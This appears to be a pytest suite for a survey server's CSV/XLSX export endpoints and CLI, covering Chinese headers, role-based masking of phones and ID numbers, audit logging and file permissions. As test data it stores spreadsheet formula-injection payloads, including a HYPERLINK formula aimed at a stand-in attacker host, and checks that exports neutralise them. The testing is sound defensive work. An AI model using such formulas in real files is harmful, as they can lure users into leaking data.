"""Exports over HTTP: CSV and XLSX layout, Chinese headers, masking by role, audit, streaming."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from forms.instruments.samples import sample_household
from server.cli import main
from server.services.forms import publish_builtins
from server.services.masking import mask
from server.storage.audit import list_entries
from server.storage.exports import form_records
from tests.server.conftest import add_user, assert_error, login
from tests.server.survey_data import store_household

V1, V3 = "530102001201", "530102002201"
URL = "/api/v1/exports"


@pytest.fixture
def rosters(app: Flask) -> dict[str, dict[str, Any]]:
    """Three household rosters (two in V1, one in V3): household number → roster data."""
    with app.app_context():
        publish_builtins()
    stored: dict[str, dict[str, Any]] = {}
    for seed, village, number in ((1, V1, "H1"), (2, V1, "H2"), (3, V3, "H3")):
        household = sample_household(seed, village_code=village)
        roster = household["household_roster"]
        roster["phone"] = f"1380000{seed:04d}"
        if number == "H2":
            roster["natural_village"] = "=HYPERLINK(1)"
        store_household(
            app,
            {"household_roster": roster},
            village_code=village,
            household_no=number,
        )
        stored[number] = roster
    return stored


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"))))


def test_csv_main_sheet_has_chinese_headers_and_masked_phones(
    app: Flask,
    client: FlaskClient,
    admin_headers: dict[str, str],
    rosters: dict[str, dict[str, Any]],
) -> None:
    response = client.get(f"{URL}/household_roster.csv", headers=admin_headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.is_streamed
    assert response.headers["Content-Disposition"] == 'attachment; filename="household_roster.csv"'
    rows = _csv(response)
    header = rows[0]
    assert header[:6] == ["记录ID", "行政村代码", "户编号", "调查轮次", "表单版本", "更新时间"]
    assert "联系电话" in header and "户类型" in header
    assert "家庭成员" not in header  # the repeat is a sheet of its own
    # The form's own village_code field has the same label as the envelope column.
    assert "行政村代码（village_code）" in header
    body = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert [r["户编号"] for r in body] == ["H1", "H2", "H3"]
    assert body[0]["联系电话"] == "138****0001"
    assert body[1]["自然村/村民小组"] == "'=HYPERLINK(1)"
    assert body[0]["调查轮次"] == "2026-annual"
    assert body[0]["更新时间"].endswith("+08:00")


def test_csv_repeat_sheet_rows_keyed_by_record_and_row_id(
    app: Flask,
    client: FlaskClient,
    admin_headers: dict[str, str],
    rosters: dict[str, dict[str, Any]],
) -> None:
    rows = _csv(
        client.get(
            f"{URL}/household_roster.csv",
            query_string={"sheet": "members", "village": V1},
            headers=admin_headers,
        )
    )
    header = rows[0]
    assert header[:4] == ["记录ID", "行ID", "行号", "户编号"]
    body = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    expected = rosters["H1"]["members"] + rosters["H2"]["members"]
    assert [r["行ID"] for r in body] == [m["_id"] for m in expected]
    assert [r["姓名"] for r in body] == [m["name"] for m in expected]
    first = body[0]
    real = expected[0]["id_number"]
    assert first["证件号码"] == real[:6] + "********" + real[-4:]
    assert first["健康状况"] == "***"
    assert first["行号"] == "1"


def test_unmasked_export_is_for_county_admins_and_audited(
    app: Flask,
    client: FlaskClient,
    admin_headers: dict[str, str],
    rosters: dict[str, dict[str, Any]],
) -> None:
    rows = _csv(
        client.get(
            f"{URL}/household_roster.csv",
            query_string={"sheet": "members", "unmasked": "true", "village": V3},
            headers=admin_headers,
        )
    )
    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [r["证件号码"] for r in body] == [m["id_number"] for m in rosters["H3"]["members"]]
    add_user(app, "reviewer", role="township_reviewer", area="530102002")
    reviewer = login(client, "reviewer")
    refused = client.get(
        f"{URL}/household_roster.csv", query_string={"unmasked": "1"}, headers=reviewer
    )
    assert_error(refused, 403, "unmasked_export_forbidden")
    own = _csv(client.get(f"{URL}/household_roster.csv", headers=reviewer))
    assert [row[2] for row in own[1:]] == ["H3"]
    outside = client.get(
        f"{URL}/household_roster.csv", query_string={"village": V1}, headers=reviewer
    )
    assert_error(outside, 403, "outside_area")
    with app.app_context():
        entries = list_entries("")
    exported = [(e.action, e.actor, e.details["unmasked"]) for e in entries if "export" in e.action]
    assert exported == [("export", "reviewer", False), ("export.unmasked", "admin", True)]


def test_xlsx_has_one_sheet_per_repeat(
    app: Flask,
    client: FlaskClient,
    admin_headers: dict[str, str],
    rosters: dict[str, dict[str, Any]],
) -> None:
    response = client.get(f"{URL}/household_roster.xlsx", headers=admin_headers)
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.get_data()))
    assert len(workbook.sheetnames) == 2 and workbook.sheetnames[1] == "家庭成员"
    main = list(workbook.worksheets[0].values)
    members = list(workbook["家庭成员"].values)
    assert len(main) == 1 + 3
    assert len(members) == 1 + sum(len(r["members"]) for r in rosters.values())
    header = list(main[0])
    h2 = dict(zip(header, main[2], strict=True))
    assert h2["自然村/村民小组"] == "'=HYPERLINK(1)"  # text, never a formula
    assert h2["表单版本"] == 1
    head = list(members[0])
    first = dict(zip(head, members[1], strict=True))
    assert first["与户主关系"] == "户主"
    assert first["证件类型"] == "居民身份证"  # the choice label, not the stored value
    assert first["证件号码"].count("*") == 8


def test_unknown_form_format_and_sheet(
    app: Flask,
    client: FlaskClient,
    admin_headers: dict[str, str],
    rosters: dict[str, dict[str, Any]],
) -> None:
    assert_error(client.get(f"{URL}/nothing.csv", headers=admin_headers), 404, "form_not_found")
    assert_error(
        client.get(f"{URL}/household_roster.csv?sheet=pets", headers=admin_headers),
        400,
        "validation_failed",
    )
    assert client.get(f"{URL}/household_roster.pdf", headers=admin_headers).status_code == 404
    assert_error(client.get(f"{URL}/household_roster.csv"), 401, "missing_token")
    empty = _csv(client.get(f"{URL}/housing_safety.csv", headers=admin_headers))
    assert len(empty) == 1


def test_records_are_read_in_keyset_pages_without_skips(
    app: Flask, rosters: dict[str, dict[str, Any]]
) -> None:
    with app.app_context():
        whole = [r.record_id for r in form_records("household_roster", "", chunk_rows=1000)]
        paged = [r.record_id for r in form_records("household_roster", "", chunk_rows=1)]
        township = [r.household_no for r in form_records("household_roster", "530102002")]
    assert len(whole) == 3 and paged == whole
    assert township == ["H3"]


def test_mask_rules() -> None:
    assert mask("53010219500523915X") == "530102********915X"
    assert mask("13800001234") == "138****1234"
    assert mask(["健康"]) == "***"
    assert mask("abc") == "***"
    assert mask(None) is None and mask("") == "" and mask([]) == ""


def test_cli_export_writes_masked_csv_and_unmasked_xlsx_owner_only_and_audited(
    app: Flask, rosters: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    out = tmp_path / "new" / "members.csv"
    with app.app_context():
        result = CliRunner().invoke(
            main,
            [
                *("export", "household_roster", "--format", "csv", "--out", str(out)),
                *("--sheet", "members", "--village", V1, "--round", "2026-annual"),
            ],
            catch_exceptions=False,
        )
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE(out.parent.stat().st_mode) == 0o700
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"))))
    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    expected = rosters["H1"]["members"] + rosters["H2"]["members"]
    assert [r["姓名"] for r in body] == [m["name"] for m in expected]
    assert [r["证件号码"] for r in body] == [mask(m["id_number"]) for m in expected]
    assert all(m["id_number"] not in raw.decode("utf-8") for m in expected)

    xlsx = tmp_path / "roster.xlsx"
    with app.app_context():
        result = CliRunner().invoke(
            main,
            ["export", "household_roster", "--format", "xlsx", "--out", str(xlsx), "--unmasked"],
            catch_exceptions=False,
        )
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(xlsx.stat().st_mode) == 0o600
    sheet = load_workbook(xlsx, read_only=True).worksheets[0]
    main_rows = list(sheet.iter_rows(values_only=True))
    phones = [row[main_rows[0].index("联系电话")] for row in main_rows[1:]]
    assert phones == [rosters[h]["phone"] for h in ("H1", "H2", "H3")]

    with app.app_context():
        refused = CliRunner().invoke(
            main, ["export", "nope", "--format", "csv", "--out", str(tmp_path / "x.csv")]
        )
        entries = list_entries("")
    assert refused.exit_code != 0 and "form_not_found" in refused.output
    exported = [(e.action, e.actor, e.details["unmasked"]) for e in entries if "export" in e.action]
    assert sorted(exported) == [("export", "cli", False), ("export.unmasked", "cli", True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_text_cell_that_starts_a_formula_is_prefixed_even_the_fixed_columns(
    app: Flask, client: FlaskClient, admin_headers: dict[str, str], fmt: str
) -> None:
    """Rows stored before the server refused such identifiers still export inert (leak 4)."""
    with app.app_context():
        publish_builtins()
    roster = sample_household(4, village_code=V1)["household_roster"]
    number, round_ = '=HYPERLINK("http://evil.example/?x","点我")', "@SUM(1+1)"
    store_household(
        app, {"household_roster": roster}, village_code=V1, household_no=number, round=round_
    )
    if fmt == "csv":
        tables = [
            _csv(client.get(f"{URL}/household_roster.csv?sheet={s}", headers=admin_headers))
            for s in ("main", "members")
        ]
    else:
        response = client.get(f"{URL}/household_roster.xlsx", headers=admin_headers)
        workbook = load_workbook(io.BytesIO(response.get_data()))
        tables = [[list(r) for r in ws.values] for ws in workbook.worksheets]
    main, members = tables
    row = dict(zip(main[0], main[1], strict=True))
    assert row["户编号"] == "'" + number and row["调查轮次"] == "'" + round_
    member = dict(zip(members[0], members[1], strict=True))
    assert member["户编号"] == "'" + number
    for table in tables:
        for cells in table:
            for cell in cells:
                assert not (isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r"))


def _roster_v2_without_phone_flag() -> dict[str, Any]:
    from forms.instruments import builtin_json

    document = builtin_json("household_roster")
    document["version"] = 2
    for fld in document["fields"]:
        if fld["name"] == "phone":
            fld.pop("sensitive", None)
    return document


def test_export_masks_a_field_sensitive_in_any_version_whatever_version_is_chosen(
    app: Flask,
    client: FlaskClient,
    admin_headers: dict[str, str],
    rosters: dict[str, dict[str, Any]],
    tmp_path: Path,
) -> None:
    """Leak 2: a version without the flag (even a retired one) never unmasks the phones."""
    from server.services import forms as form_service
    from server.services.access import CLI_ACTOR

    with app.app_context():
        form_service.upload_draft(
            _roster_v2_without_phone_flag(), actor=CLI_ACTOR, drop_sensitive=True
        )
        form_service.publish("household_roster", 2, actor=CLI_ACTOR)
        form_service.retire("household_roster", 1, actor=CLI_ACTOR)
    add_user(app, "reviewer", role="township_reviewer", area="530102001")
    reviewer = login(client, "reviewer")
    for headers in (reviewer, admin_headers):
        for query in ("", "?version=2", "?version=1"):
            rows = _csv(client.get(f"{URL}/household_roster.csv{query}", headers=headers))
            body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
            assert body and all(r["联系电话"].startswith("138****") for r in body), (query, body)
    # The command-line export (newest version, no --unmasked) masks them too.
    out = tmp_path / "cli.csv"
    with app.app_context():
        result = CliRunner().invoke(
            main,
            ["export", "household_roster", "--format", "csv", "--out", str(out)],
            catch_exceptions=False,
        )
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_bytes()[3:].decode("utf-8"))))
    phones = [dict(zip(rows[0], row, strict=True))["联系电话"] for row in rows[1:]]
    assert phones and all(p.startswith("138****") for p in phones), phones


def test_a_new_version_cannot_drop_a_sensitive_flag_without_an_audited_admin_action(
    app: Flask, client: FlaskClient, admin_headers: dict[str, str]
) -> None:
    import json as json_module

    with app.app_context():
        publish_builtins()
    body = json_module.dumps(_roster_v2_without_phone_flag()).encode()
    refused = client.post(
        "/api/v1/forms", data=body, content_type="application/json", headers=admin_headers
    )
    error = assert_error(refused, 422, "sensitive_flag_dropped")
    assert error["details"]["fields"] == ["phone"]
    allowed = client.post(
        "/api/v1/forms?drop_sensitive=true",
        data=body,
        content_type="application/json",
        headers=admin_headers,
    )
    assert allowed.status_code == 201, allowed.get_json()
    with app.app_context():
        (entry,) = list_entries("", action="form.sensitive_dropped")
        assert entry.details["fields"] == ["phone"]
